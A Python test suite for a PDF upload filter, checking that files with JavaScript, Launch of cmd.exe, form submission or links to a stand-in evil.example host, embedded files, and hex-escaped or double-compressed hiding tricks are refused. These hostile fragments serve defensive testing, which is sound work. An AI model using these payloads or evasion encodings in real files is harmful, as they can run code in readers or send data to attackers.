"""PDFs: kept as they are, but only as pages."""

import zlib
from datetime import date
from random import Random

import pytest
from hypothesis import given, settings

from exchange.files.pdfs import OTHER_FILE
from exchange.files.read import judge, read_contents
from tests.support.files import only_refusals, refused
from tests.support.lists.hostile_files import mutated

PAGES = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]>>endobj\n%%EOF\n"


def taken(content):
    return read_contents(content, date(2026, 11, 22)).as_picture()


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\ntrailer<<>>\n%%EOF\n"


def compressed(objects: bytes, name: bytes = b"/ObjStm", line: bytes = b"\r\n") -> bytes:
    head = b"5 0 obj<</Type" + name + b"/N 1/First 4/Filter/FlateDecode>>stream" + line
    return head + zlib.compress(objects) + b"\nendstream endobj"


def test_a_receipt_of_pages_is_kept_as_it_is():
    assert taken(PAGES).content == PAGES
    assert taken(pdf(compressed(b"1 0 <</Type/Catalog>>"))).media_type == "application/pdf"


def test_a_pdf_without_an_end_is_broken():
    with refused("photo-broken"):
        taken(PAGES[:20])


def test_a_pdf_of_more_than_two_megabytes_is_refused_unread():
    large = pdf(b"%" + bytes(2 * 1024 * 1024))
    assert judge(large).refusal.reason == "photo-pdf-large"
    assert judge(large).refusal.values == {"most": 2}


@pytest.mark.parametrize(
    "action",
    [
        b"<</S/JavaScript/JS(app.alert(1))>>",
        b"<</S /Launch /F(cmd.exe)>>",
        b"<</Type/EmbeddedFile>>",
        b"<</Names<</EmbeddedFiles 3 0 R>>>>",
        b"<</S/J#61vaScript>>",
        b"<</S/#4A#61#76#61#53cript>>",
        b"<</S/#4aavaScript>>",
        b"<</AcroForm<</XFA 4 0 R>>>>",
        b"<</S/SubmitForm/F(http://evil.example)>>",
        b"<</Subtype/RichMedia>>",
        b"<</Encrypt 8 0 R>>",
        rb"<</S/GoToR/F(\\\\evil.example\\s\\a.pdf)>>",
        b"<</Subtype/FileAttachment/FS<</EF<</F 4 0 R>>>>>>",
        b"<</Subtype/Movie/Movie 4 0 R>>",
        rb"<</Length 0/F(\\\\evil.example\\x)>>",
        b"<</Length 0/#46 <5c5c 6576>>>",
        b"<</Length 0/F 9 0 R>>",
        b"<</Type/XObject/Ref<</UF(http://evil.example)>>>>",
        b"<</Type/Page/AA<</O<</S/URI/URI(http://evil.example)>>>>>>",
        b"<</Type/Page/#41A 7 0 R>>",
        b"<</Type/Catalog/OpenAction<</S/URI/URI(http://evil.example)>>>>",
        b"<</Type/Catalog/Open#41ction 7 0 R>>7 0 obj<</S/#55RI/URI(http://evil.example)>>",
        b"<</Type/3D/OnInstantiate 4 0 R>>",
    ],
)
@pytest.mark.parametrize("hidden", [False, True])
def test_a_pdf_that_runs_or_carries_something_is_refused(action, hidden):
    with refused("photo-pdf-active"):
        taken(pdf(compressed(b"1 0 " + action) if hidden else b"1 0 obj" + action + b"endobj"))


def test_an_address_opened_from_a_hidden_object_is_refused():
    action = compressed(b"7 0 <</S/URI/URI(http://evil.example)>>")
    with refused("photo-pdf-active"):
        taken(pdf(b"1 0 obj<</Type/Catalog/OpenAction 7 0 R>>endobj", action))


def test_pages_with_a_link_or_a_place_to_open_are_kept():
    link = b"3 0 obj<</Subtype/Link/A<</S/URI/URI(https://bank.example)>>>>endobj"
    start = b"1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]>>endobj"
    action = (
        b"1 0 obj<</Type/Catalog/OpenAction 4 0 R>>endobj 4 0 obj<</S/GoTo/D[2 0 R/Fit]>>endobj"
    )
    for whole in (pdf(start, link), pdf(action)):
        assert taken(whole).content == whole


@pytest.mark.parametrize("name", [b"/ObjStm", b"/O#62jStm", b" /ObjStm ", b"/#4fbj#53tm"])
@pytest.mark.parametrize("line", [b"\r\n", b"\n"])
def test_a_script_in_compressed_objects_is_found_however_they_are_named(name, line):
    with refused("photo-pdf-active"):
        taken(pdf(compressed(b"1 0 <</S/JavaScript>>", name, line)))


@pytest.mark.parametrize("dictionary", [b"/N 1/First 4", b"/Fir#73t 4 /N 1", b"/First 9 0 R/#4e 1"])
def test_a_script_in_compressed_objects_is_found_that_do_not_say_they_are_some(dictionary):
    packed = zlib.compress(b"1 0 <</S/JavaScript>>")
    for more in (b"", b"/A(>>endobj)", b"%>>endobj\n", b"/A<<>>/endobj 1"):
        head = b"5 0 obj<<" + dictionary + more + b"/Filter/FlateDecode>>stream\n"
        with refused("photo-pdf-active"):
            taken(pdf(head + packed + b"\nendstream endobj"))


def test_the_data_of_pictures_is_no_name_of_a_file():
    noise = Random(1).randbytes(3_000_000)
    for name in (b"/F(", b"/F<", b"/EF", b"/F%"):
        assert not OTHER_FILE.search(noise + name + noise[:50] + b"/F 4/FT")


def test_an_outline_before_a_colour_profile_is_no_stream_of_objects():
    outline = b"4 0 obj<</Type/Outlines/First 5 0 R/Last 5 0 R/Count 1>>\nendobj"
    profile = b"6 0 obj<</N 3/Length 4>>stream\nabcd\nendstream endobj"
    note = b"7 0 obj<</Subtype/Text/F 4/Font<</F1 8 0 R>>>>endobj"
    assert taken(pdf(outline, profile, note)).media_type == "application/pdf"


@pytest.mark.parametrize(
    "objects",
    [
        b"5 0 obj<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n789c\nendstream",
        b"5 0 obj<</Type/ObjStm>>endobj",
        compressed(bytes(30 * 1024 * 1024)),
        compressed(b"1 0 <<>>") * 2_001,
    ],
)
def test_objects_that_cannot_be_looked_at_are_refused(objects):
    with refused("photo-pdf-active"):
        taken(pdf(objects))


@pytest.mark.parametrize(
    "said",
    [
        b"/Filter[/FlateDecode/FlateDecode]",
        b"/Filter[/FlateDecode/Fl#61teDecode]",
        b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>",
        b"/Filter/FlateDecode/DP<</Predictor 2>>",
        b"/Filter 9 0 R",
        b"/Filter/FlateDecode%x\n/Filter[/FlateDecode]",
        b"/Filter[/FlateDecode/FlateDecode]/X(1 0 obj<<)/Filter/FlateDecode",
        b"/Filter[/FlateDecode/FlateDecode]/X/obj<<>>/Filter/FlateDecode",
    ],
)
@pytest.mark.parametrize("first", [False, True])
def test_script_packed_twice_or_rewritten_by_a_predictor_is_not_taken(said, first):
    packed = zlib.compress(zlib.compress(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"))
    parts = (said, b"/Type/ObjStm/N 1/First 4") if first else (b"/Type/ObjStm/N 1/First 4", said)
    head = b"5 0 obj<<" + b"".join(parts) + b">>stream\n"
    with refused("photo-pdf-active"):
        taken(pdf(head + packed + b"\nendstream endobj"))


@pytest.mark.parametrize(
    "dictionary",
    [
        b"<</Filter/FlateDecode/First 20/Length 150/N 3/Type/ObjStm>>",
        b"<< /Type /ObjStm\n/Length 150 /Filter [ /FlateDecode ] /N 3 /First 20 /Extends 4 0 R >>",
    ],
)
def test_object_streams_as_programs_write_them_are_kept(dictionary):
    whole = pdf(b"5 0 obj\n" + dictionary + b"\nstream\n" + zlib.compress(b"1 0 <</A 1>>"))
    assert taken(whole).content == whole


@settings(deadline=None)
@given(mutated(PAGES, pdf(compressed(b"1 0 <</S/JavaScript>>")), pdf(b"<</S/Launch>>")))
def test_mutated_pdfs_are_kept_or_refused_but_never_fail(content):
    with only_refusals("photo-"):
        assert b"/JavaScript" not in taken(content).content
